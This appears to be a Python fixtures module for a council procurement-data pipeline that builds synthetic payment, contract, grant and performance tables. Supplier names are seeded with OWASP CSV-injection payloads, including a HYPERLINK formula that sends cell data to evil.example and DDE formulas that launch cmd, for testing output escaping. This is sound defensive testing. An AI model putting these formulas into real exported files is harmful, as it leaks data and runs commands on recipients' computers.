"""Small frames to publish: every kind of value, every injection payload, every status.

Does not belong here: tests.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from datetime import date
from fractions import Fraction

import pandas as pd

from kcc_etl import asset_keys as keys
from kcc_etl.parameters.measures import Measure
from kcc_etl.schema.frames import empty, from_rows
from kcc_etl.schema.tables import CORE_TABLE_OF_KIND
from reports.committee_figures import with_disclosure
from reports.datasets import FIGURES
from reports.documents import Value
from reports.edition import Edition, records
from reports.quality_figures import Quality
from reports.quality_figures import quality as quality_of

PERIOD = "2026-27-Q2"
AS_OF = date(2026, 11, 23)

# OWASP "CSV injection", and what reaches councils in supplier names; the last three are harmless text.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Wealdmarsh Ltd")',
    "=cmd|' /C calc'!A0",
    "+44 1622 000000 Cleaning",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\x00=1+1",
    "\u202e=1+1",
    "|calc",
    'O\'Brien & Sons, "Ash" Ltd',
    "Café Ünïcode 社会 Ltd",
    "Line one\nLine two Ltd",
)


@dataclass(frozen=True)
class Council:
    name: str = "Wealdmarsh County Council"
    address: str = "County Hall, Marsh Road, Wealdmarsh WM1 1AA"
    email: str = "procurement@wealdmarsh.example"
    ids: tuple[str, ...] = ("GB-PPON-WXYZ-1234-ABCD",)
    organisation_uri: str = "http://statistics.data.gov.uk/id/statistical-geography/E10999999"
    publication_url: str = ""


MEASURES = (
    Measure("J1", "New jobs for people who face barriers to work", "people", "jobs", "flow", "outputs", "", "Each once.", "A list.", ""),
    Measure("J2", "Staff on the contract who live in the county", "FTE", "jobs", "level", "committed", "", "Each once.", "A list.", ""),
    Measure("S1", "Apprenticeships started", "people", "skills", "flow", "outputs", "", "Each once.", "A list.", ""),
    Measure("S5", "Careers and school activity", "hours", "skills", "flow", "fixed", "", "Each once.", "A list.", ""),
    Measure("C1", "Volunteering in the community", "hours", "community", "flow", "hours", "", "Each once.", "A list.", ""),
)  # fmt: skip


def edition(*, approved: bool = False, council: Council | None = None) -> Edition:
    return Edition(PERIOD, AS_OF, AS_OF, council or Council(), "a1b2c3d4e5f6", approved)


def over_30k(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    council = Council()
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "payer_name": council.name,
            "payer_address": council.address,
            "payer_email": council.email,
            "payer_id": council.ids[0],
            "ocid": f"ocds-h6vhtk-06{n:04d}",
            "contract_id": f"{n:06d}-2026-1",
            "supplier_name": supplier,
            "supplier_id": f"GB-PPON-PAAA-{n:04d}-AAAA",
            "amount_ex_vat_pence": 2_500_001 + 1_234_567 * n,
            "paid_on": pd.Timestamp(2026, 7 + n % 3, 1 + n),
            "amount_inc_vat_pence": 3_000_001 + 1_481_480 * n,
            "payment_ref": f"P{n:05d}",
            "source_sha256": "ab" * 32,
            "source_file": "ledger.csv",
            "source_row": n + 2,
        }
        for n, supplier in enumerate(suppliers)
    ]
    return from_rows(rows, keys.OUT_OVER_30K)


def spend(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "department": "Growth and Environment",
            "payee": supplier,
            "supplier_company_number": f"{n:08d}" if n % 2 else None,
            "supplier_charity_number": None if n % 3 else f"11{n:05d}",
            "is_vcse_grant": None if n % 5 == 0 else n % 4 == 0,
            "paid_on": pd.Timestamp(2026, 9, 1 + n),
            "amount_ex_vat_pence": -75_050 if n == 1 else 50_001 + n,
            "irrecoverable_vat_pence": 0 if n % 2 else None,
            "purpose": "Grounds maintenance",
            "card_transaction": ("None", "GPC", None)[n % 3],
            "contract_ref": f"WM-{n:04d}",
            "source_sha256": "cd" * 32,
            "source_file": "ledger.csv",
            "source_row": n + 2,
        }
        for n, supplier in enumerate((*suppliers, "REDACTED PERSONAL DATA"))
    ]
    return from_rows(rows, keys.OUT_SPEND)


def register(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    sizes = ("micro", "small", "medium", "large", "unknown")
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "contract_ref": f"WM-{n:04d}",
            "ocid": f"ocds-h6vhtk-06{n:04d}" if n % 2 else None,
            "contract_title": f"Highway verges, area {n}",
            "contract_description": "Cutting and clearing of highway verges, hedges and sight lines.",
            "department": "Growth and Environment",
            "agreement_kind": ("contract", "framework", "call-off", "concession")[n % 4],
            "procurement_category": "services",
            "cpv_code": "77310000",
            "start_on": pd.Timestamp(2026, 4, 1),
            "end_on": pd.Timestamp(2029, 3, 31),
            "review_on": None if n % 3 else pd.Timestamp(2028, 9, 30),
            "max_end_on": None if n % 2 else pd.Timestamp(2031, 3, 31),
            "value_ex_vat_pence": 12_000_000_007 if n == 0 else 600_000 + 12_345 * n,
            "irrecoverable_vat_pence": 0,
            "payee": supplier,
            "supplier_company_number": f"{n:08d}",
            "supplier_charity_number": None,
            "supplier_ppon": None,
            "supplier_size": sizes[n % 5],
            "supplier_is_vcse": (True, False, None)[n % 3],
            "process_type": ("Invitation to quote", "Published invitation to tender", "Other")[n % 3],
            "district": ("E07000105", "county", "unknown")[n % 3],
        }
        for n, supplier in enumerate((*suppliers, "REDACTED PERSONAL DATA"))
    ]
    return from_rows(rows, keys.OUT_REGISTER)


def performance(contracts: int = 24) -> pd.DataFrame:
    rows = [
        _performance_row(n, m, measure)
        for n in range(contracts)
        for m, measure in enumerate(MEASURES)
        if (n + m) % 2
    ]
    return from_rows(rows, keys.OUT_PERFORMANCE)


def as_published(performance: pd.DataFrame) -> pd.DataFrame:
    """The performance as published where nothing has to be left out."""
    return from_rows(performance.assign(not_shown=None).to_dict("records"), keys.OUT_DISCLOSED)


def lines(performance: pd.DataFrame) -> list[dict[str, Value]]:
    """The rows of the committee report."""
    return with_disclosure(
        records(performance, keys.OUT_PERFORMANCE), records(as_published(performance), keys.OUT_DISCLOSED)
    )


def area() -> pd.DataFrame:
    """Outcomes by district: a measure of people with counts left out, one of hours."""
    rows = [
        {
            "period": PERIOD,
            "measure_code": code,
            "measure_title": title,
            "unit": unit,
            "district": district,
            **counts,
        }
        for code, title, unit in (("S1", "Apprenticeships", "people"), ("C1", "Volunteering", "hours"))
        for district, counts in (
            ("E07000105", dict.fromkeys(("claimed", "evidenced", "verified"), Fraction(21, 2))),
            (
                "county",
                {"not_shown": "counts"}
                if unit == "people"
                else dict.fromkeys(("claimed", "verified"), Fraction(3)),
            ),
        )
    ]
    return from_rows(rows, keys.OUT_AREA)


def _performance_row(n: int, m: int, measure: Measure) -> dict[str, object]:
    agreed = Fraction(12 + 6 * n * (1 + m))
    due = Fraction(0) if n % 9 == 8 else agreed / 11
    missing = n % 6 == 5
    share = (Fraction(6, 5), Fraction(1), Fraction(17, 20), Fraction(1, 2), Fraction(1))[(n + 3 * m) % 5]
    claimed = Fraction(0) if missing else due * share * Fraction(11, 10)
    verified = Fraction(0) if missing else due * share
    status = "Grey"
    if due:
        status = "Green" if verified >= due else "Amber" if verified >= due * Fraction(4, 5) else "Red"
    return {
        "period": PERIOD,
        "contract_ref": f"WM-{n:04d}",
        "contract_title": f"Highway verges, area {n}",
        "department": ("Growth and Environment", "Adult Social Care")[n % 2],
        "supplier_name": PAYLOADS[n % len(PAYLOADS)] if n % 4 == 0 else f"Marshland Services {n} Ltd",
        "band": f"B{2 + n % 4}",
        "measure_code": measure.code,
        "measure_title": measure.title,
        "unit": measure.unit,
        "target": agreed,
        "agreed": agreed,
        "committed": None if n % 7 == 0 else agreed,
        "due": due,
        "due_by_return": due,
        "is_return_asked": bool(due),
        "claimed": claimed,
        "evidenced": claimed,
        "verified": verified,
        "return_status": "missing"
        if missing
        else ("nil" if n % 6 == 3 and share == 0 else "received")
        if due
        else "not due",
        "status": status,
    }


def card(merchants: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "department": "Growth and Environment",
            "payee": merchant,
            "paid_on": pd.Timestamp(2026, 9, 1 + n),
            "amount_ex_vat_pence": -1_250 if n == 1 else 199 + n,
            "irrecoverable_vat_pence": 0,
            "purpose": "Card purchase",
            "card_transaction": "GPC",
            "source_sha256": "cd" * 32,
            "source_file": "ledger.csv",
            "source_row": n + 2,
        }
        for n, merchant in enumerate((*merchants, "REDACTED PERSONAL DATA"))
    ]
    return from_rows(rows, keys.OUT_CARD)


def grants(bodies: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "awarded_on": None if n % 2 else pd.Timestamp(2026, 4, 1 + n),
            "grant_period": None if n % 2 else "01/04/2026 to 31/03/2027",
            "department": "Adult Social Care",
            "payee": body,
            "registration_number": None if n % 3 else f"11{n:05d}",
            "purpose": "Grant to a voluntary body",
            "amount_ex_vat_pence": 20_000 + n,
            "paid_on": pd.Timestamp(2026, 5, 1 + n),
            "source_sha256": "cd" * 32,
            "source_file": "ledger.csv",
            "source_row": n + 40,
        }
        for n, body in enumerate((*bodies, "REDACTED PERSONAL DATA"))
    ]
    return from_rows(rows, keys.OUT_GRANT)


def tenders(titles: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "contract_ref": f"WM-{n:04d}",
            "contract_title": title,
            "contract_description": "Cutting and clearing of highway verges.",
            "start_on": pd.Timestamp(2027, 4, 1),
            "end_on": pd.Timestamp(2030, 3, 31),
            "department": None if n % 2 else "Growth and Environment",
            "ocid": f"ocds-h6vhtk-06{n:04d}",
            "release_id": f"{n:06d}-2026",
            "published_on": pd.Timestamp(2026, 8, 1 + n),
            "value_inc_vat_pence": 60_000_00,
            "source_sha256": "ef" * 32,
            "source_file": "notices.json",
            "source_row": n + 1,
        }
        for n, title in enumerate(titles)
    ]
    return from_rows(rows, keys.OUT_TENDER)


def shares() -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "share_category": name,
            "share_definition": f"Definition of {name}",
            "spend_pence": 300_000_00,
            "spend_with_pence": 100_000_00,
            "spend_without_pence": 200_000_00 - unknown,
            "spend_unknown_pence": unknown,
            "share_at_least": Fraction(1, 3),
            "share_at_most": Fraction(100_000_00 + unknown, 300_000_00),
            "suppliers_count": 12,
            "suppliers_unknown_count": unknown // 50_000_00,
        }
        for name, unknown in (("SME by the Act", 0), ("SME by the Code", 50_000_00), ("VCSE", 0), ("Kent", 0))
    ]
    return from_rows(rows, keys.OUT_SHARE)


def assessments() -> pd.DataFrame:
    rows: list[dict[str, object]] = [
        {
            "period": PERIOD,
            "contract_ref": ref,
            "contract_title": title,
            "ocid": ocid,
            "contract_id": number,
            "kpi_id": "3",
            "kpi_title": "Jobs for local people",
            "kpi_description": target,
            "measure_code": code,
            "payee": payee,
            "supplier_id": number_of_supplier,
            "confirmed_rating": rating,
            "observed_from_on": "2026-07-01",
            "observed_to_on": "2026-09-30",
            "confirmed_by": "contract manager",
            "confirmed_on": "2026-10-12",
            "decision_id": f"D-{ref}",
        }
        for ref, title, ocid, number, target, code, payee, number_of_supplier, rating in (
            ("C-1", "Roads, north", "ocds-zz9zz9-000001", "1", "=3 a year", "E1", "Acme Ltd", "GB-PPON-PABC-1234-DEFG", "good"),
            ("C-2", "=Care", None, None, None, None, "REDACTED PERSONAL DATA", None, "requires improvement"),
        )
    ]  # fmt: skip
    return from_rows(rows, keys.OUT_ASSESSMENT)


def frames() -> dict[str, pd.DataFrame]:
    """Every table of figures of a pack; those that no test here is about have no rows."""
    return {name: empty(name) for name in FIGURES} | {
        keys.OUT_OVER_30K: over_30k(),
        keys.OUT_SPEND: spend(),
        keys.OUT_REGISTER: register(),
        keys.OUT_CARD: card(),
        keys.OUT_GRANT: grants(),
        keys.OUT_TENDER: tenders(),
        keys.OUT_SHARE: shares(),
        keys.OUT_PERFORMANCE: performance(),
        keys.OUT_DISCLOSED: as_published(performance()),
        keys.OUT_AREA: area(),
        keys.OUT_ASSESSMENT: assessments(),
    }


def empty_frames() -> dict[str, pd.DataFrame]:
    return {name: empty(name) for name in frames()}


def fates() -> pd.DataFrame:
    return pd.DataFrame(
        [
            ("decisions", 0, 61, 60, 1, 0, 0, 0, 0, 0),
            ("notices", 0, 120, 118, 1, 1, 0, 0, 0, 0),
            ("payments", 0, 20_116, 20_098, 16, 2, 9_876_543_210, 9_870_000_000, 6_543_210, 0),
            ("register", 0, 243, 239, 3, 1, 45_600_000_000, 45_500_000_000, 100_000_000, 0),
            ("returns", 2, 402, 391, 8, 3, 0, 0, 0, 0),
        ],
        columns=[
            "kind", "files_refused", "rows_arrived", "rows_accepted", "rows_quarantined", "rows_excluded",
            "pence_arrived", "pence_accepted", "pence_quarantined", "pence_excluded",
        ],
    ).assign(files=20, files_quarantined=0)  # fmt: skip


def quality(findings: int = 41) -> Quality:
    """So many warnings of one rule, in no file; the account of `fates`."""
    found = {"rule_id": "RT-012", "severity": "warning", "subject": "C-1", "found": "missing"}
    nothing = {name: empty(name) for name in ("receipt", "set_aside", "verdict")}
    figures = quality_of(
        receipts=nothing["receipt"],
        set_aside=nothing["set_aside"],
        verdicts=nothing["verdict"],
        cores={kind: empty(table) for kind, table in CORE_TABLE_OF_KIND.items()},
        findings=from_rows([{**found, "source_row": 0} for _ in range(findings)], "finding"),
    )
    return replace(figures, fates=fates())
